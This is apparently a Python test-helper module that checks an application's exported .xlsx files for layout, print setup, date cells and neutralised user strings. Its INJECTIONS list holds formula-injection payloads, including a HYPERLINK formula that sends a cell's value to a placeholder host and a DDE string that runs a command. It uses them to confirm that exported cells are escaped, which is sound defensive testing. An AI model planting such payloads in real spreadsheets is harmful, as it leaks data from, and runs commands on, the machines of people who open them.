"""What every exported .xlsx must look like when opened (openpyxl reads what Excel/LibreOffice read)."""

from __future__ import annotations

import io
from datetime import datetime

from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from backend.kernel.sheets import MAX_WIDTH, PADDING, display_width, wrapped_lines

INJECTIONS = (
    '=HYPERLINK("http://e.x/?"&B3,"查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


def open_sheet(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    assert len(wb.sheetnames) == 1
    return wb[wb.sheetnames[0]]


def check_layout(ws, headers: tuple[str, ...] | list[str], *, header_row: int, print_header: str) -> None:
    """Frozen header, autofilter over the data, fitted widths, A4 print setup with repeated titles."""
    assert [c.value for c in ws[header_row]][: len(headers)] == list(headers)
    assert all(c.font.bold for c in ws[header_row])
    assert ws.freeze_panes == f"A{header_row + 1}"
    last = get_column_letter(len(headers))
    assert ws.auto_filter.ref == f"A{header_row}:{last}{max(ws.max_row, header_row)}"
    total = 0
    for index, header in enumerate(headers, start=1):
        letter = get_column_letter(index)
        width = ws.column_dimensions[letter].width
        assert width >= min(display_width(header), MAX_WIDTH) + PADDING, (header, width)
        assert width <= MAX_WIDTH + PADDING, (header, width)
        for (cell,) in ws.iter_rows(min_row=header_row + 1, min_col=index, max_col=index):
            if isinstance(cell.value, str) and (display_width(cell.value) > width - PADDING or "\n" in cell.value):
                assert cell.alignment.wrap_text, (header, cell.value)
                # tall enough for every line: LibreOffice does not grow a row for wrapped text itself
                lines = wrapped_lines(cell.value, width)
                assert (ws.row_dimensions[cell.row].height or 15) >= 15 * lines, (header, cell.value, lines)
        total += width
    setup = ws.page_setup
    assert int(setup.paperSize) == 9  # A4
    assert setup.orientation == ("landscape" if total > 95 else "portrait")
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert setup.fitToWidth == 1 and setup.fitToHeight == 0
    assert ws.print_title_rows.replace("$", "") == f"1:{header_row}"  # repeated on every printed page
    assert ws.oddHeader.center.text == print_header.replace("&", "&&")
    assert "&P" in ws.oddFooter.center.text and "&N" in ws.oddFooter.center.text
    assert ws.oddFooter.right.text.startswith("导出时间 ")


def column(ws, header_row: int, header: str) -> int:
    return [c.value for c in ws[header_row]].index(header) + 1


def check_datetime_column(ws, header_row: int, header: str) -> int:
    """Every non-empty cell of the column is a real date cell shown as yyyy-mm-dd hh:mm; returns how many."""
    index = column(ws, header_row, header)
    n = 0
    for (cell,) in ws.iter_rows(min_row=header_row + 1, min_col=index, max_col=index):
        if cell.value is None:
            continue
        assert cell.is_date and isinstance(cell.value, datetime), (header, cell.coordinate, cell.value)
        assert cell.number_format == "yyyy-mm-dd hh:mm"
        n += 1
    return n


def check_inert(cell, original: str) -> None:
    """A user's string is a text cell that no spreadsheet evaluates (OWASP: a leading quote)."""
    assert cell.data_type == "s", (cell.coordinate, cell.data_type, cell.value)
    assert cell.value == "'" + original, (cell.coordinate, cell.value)
